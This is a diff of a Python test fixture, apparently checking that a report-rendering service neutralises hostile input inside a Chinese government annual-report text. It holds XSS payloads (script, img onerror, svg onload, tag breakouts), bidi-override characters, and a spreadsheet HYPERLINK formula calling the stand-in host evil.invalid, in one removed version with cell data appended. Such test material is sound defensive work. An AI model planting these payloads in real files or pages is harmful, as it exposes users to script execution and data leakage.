@@ -11,12 +11,12 @@ from annotations.report import TaggedReport
 from tests.service.page.conftest import Page
 from tests.service.page.reports import report
 
-EVIL = """=HYPERLINK("http://evil.invalid/?"&A1,"2021年")年度报告<script>window.ran = 1</script>
+EVIL = """青浔县人民政府2021年政府信息公开工作年度报告<script>window.ran = 1</script>
 一、总体情况
-<script>window.ran = 1</script>全年主动公开政府信息12条。
+=HYPERLINK("http://evil.invalid/","点")，没有收到行政复议。
 <img src="http://evil.invalid/x" onerror="window.ran = 1">通过网站公开信息3条。
 \u202e政务微博公开信息21条\u202c，\u2067收到政府信息公开申请7件\u2069。
-</textarea></p><svg onload="window.ran = 1"><style>*{display:none}</style>没有收到行政复议。
+</textarea></p><svg onload="window.ran = 1"><style>*{display:none}</style>没有收到行政诉讼。
 """
 SENTENCE = "政务微信公开信息34条。"
 
